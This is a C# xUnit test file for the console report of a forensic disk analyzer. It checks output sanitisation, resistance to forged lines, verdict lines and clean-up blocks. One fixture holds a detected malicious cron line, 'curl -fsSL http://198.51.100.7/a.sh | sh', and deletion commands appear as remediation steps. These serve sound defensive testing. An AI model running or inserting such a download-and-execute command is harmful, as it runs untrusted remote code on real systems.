using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using Forensics.Analyzer.Reports;
using Forensics.Analyzer.Risk;
using Xunit;

namespace Forensics.Analyzer.Tests.Reports;

public sealed partial class ConsoleReportTests
{
    private static readonly UTF8Encoding Strict = new(false, throwOnInvalidBytes: true);

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void No_control_character_but_the_newline_reaches_the_output(bool verbose)
    {
        string text = Render(ReportFixture.Hostile(), new ConsoleReport(verbose: verbose));
        AssertPrintable(text);
    }

    [Fact]
    public void With_colours_only_own_sgr_sequences_are_added()
    {
        string plain = Render(ReportFixture.Hostile(), new ConsoleReport(verbose: true));
        string coloured = Render(ReportFixture.Hostile(), new ConsoleReport(colours: true, verbose: true));
        Assert.Contains("\x1b[", coloured, StringComparison.Ordinal);
        string stripped = Sgr().Replace(coloured, "");
        AssertPrintable(stripped);
        Assert.Equal(plain, stripped);
    }

    [Fact]
    public void No_line_is_a_command_for_a_build_server()
    {
        foreach (string line in Render(ReportFixture.Hostile(), new ConsoleReport(verbose: true)).Split('\n'))
        {
            Assert.False(line.TrimStart().StartsWith("::", StringComparison.Ordinal), line);
            Assert.DoesNotMatch(@"##[a-z]*\[", line);
        }
    }

    [Fact]
    public void A_record_cannot_forge_lines()
    {
        string text = Render(ReportFixture.Hostile(), new ConsoleReport(verbose: true));
        Assert.DoesNotContain(text.Split('\n'), line => line.StartsWith("0 findings", StringComparison.Ordinal));
        Assert.Contains("x\\x0a0 findings", text, StringComparison.Ordinal);
    }

    [Fact]
    public void The_first_line_is_the_verdict_with_counts() =>
        Assert.Equal("COMPROMISED 100/100: 1 critical, 1 high, 1 medium, 1 low, 1 info", Render(ReportFixture.Ordinary(), new ConsoleReport()).Split('\n')[0]);

    [Fact]
    public void A_clean_report_says_so() => Assert.StartsWith("CLEAN 0/100: no findings\n", Render(ReportFixture.Clean(), new ConsoleReport()), StringComparison.Ordinal);

    [Fact]
    public void An_incomplete_scan_is_said_below_the_verdict() => Assert.StartsWith("INCOMPLETE", Render(ReportFixture.Hostile(), new ConsoleReport()).Split('\n')[1], StringComparison.Ordinal);

    [Fact]
    public void A_finding_shows_place_reason_match_technique_and_remedy()
    {
        string text = Render(ReportFixture.Ordinary(), new ConsoleReport());
        Assert.Contains("[L-CRON-USER.download-pipe-shell]", text, StringComparison.Ordinal);
        Assert.Contains(", line 7 (gpt1@1048576, inode 1234)", text.Replace("\n              ", " ", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.Contains("T1053.003", text, StringComparison.Ordinal);
        Assert.Contains("Matched   curl -fsSL http://198.51.100.7/a.sh | sh", text, StringComparison.Ordinal);
        Assert.Contains("missing /usr/bin/gone", text, StringComparison.Ordinal);
        Assert.Contains("- rm -- '/var/spool/cron/crontabs/root'", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Low_and_info_are_counted_unless_verbose()
    {
        Report report = ReportFixture.Ordinary() with
        {
            Findings = [.. Enumerable.Range(0, 1500).Select(i => ReportFixture.FindingOf(Severity.Info, "entry" + i.ToString(CultureInfo.InvariantCulture), "L-X.y"))],
        };
        string brief = Render(report, new ConsoleReport());
        Assert.Contains("info   1,500", brief, StringComparison.Ordinal);
        Assert.DoesNotContain("entry77", brief, StringComparison.Ordinal);
        Assert.Contains("entry77", Render(report, new ConsoleReport(verbose: true)), StringComparison.Ordinal);
    }

    [Fact]
    public void Every_clean_up_step_is_in_the_block_once_and_unbroken()
    {
        string step = "rm -rf -- '/" + new string('x', 300) + "'";
        Finding finding = ReportFixture.FindingOf(Severity.High, "a") with { Remediation = [step] };
        string text = Render(ReportFixture.Ordinary() with { Findings = [finding, finding] }, new ConsoleReport());
        string block = text[text.IndexOf("CLEAN-UP", StringComparison.Ordinal)..];
        Assert.Equal(2, block.Split(step).Length);
    }

    [Fact]
    public void Lines_keep_the_width_but_for_steps_to_copy()
    {
        Report report = ReportFixture.Hostile() with { Findings = [.. ReportFixture.Hostile().Findings.Select(finding => finding with { Remediation = [] })] };
        foreach (string line in Render(report, new ConsoleReport(verbose: true, width: 100)).Split('\n'))
        {
            Assert.True(SafeText.Columns(line) <= 100 || line.Contains('[', StringComparison.Ordinal), line);
        }
    }

    [Fact]
    public void Diagnostics_after_the_tenth_are_counted()
    {
        string text = Render(ReportFixture.Hostile(), new ConsoleReport());
        Assert.Contains(", the first 10:", text, StringComparison.Ordinal);
        Assert.Equal(10, text.Split('\n').Count(line => line.Contains("ext4.extent.depth", StringComparison.Ordinal)));
    }

    internal static string Render(Report report, IReportWriter writer)
    {
        using var stream = new MemoryStream();
        writer.Write(report, stream);
        Assert.True(stream.CanWrite);
        return Strict.GetString(stream.ToArray());
    }

    internal static void AssertPrintable(string text)
    {
        foreach (Rune rune in text.EnumerateRunes())
        {
            bool isBad = rune.Value != '\n' && (rune.Value is < 0x20 or (>= 0x7F and <= 0x9F) || Rune.GetUnicodeCategory(rune) is UnicodeCategory.Format
                or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator or UnicodeCategory.PrivateUse);
            Assert.False(isBad, "U+" + rune.Value.ToString("X4", CultureInfo.InvariantCulture));
        }
    }

    [GeneratedRegex("\x1b\\[[0-9;]*m")]
    private static partial Regex Sgr();
}
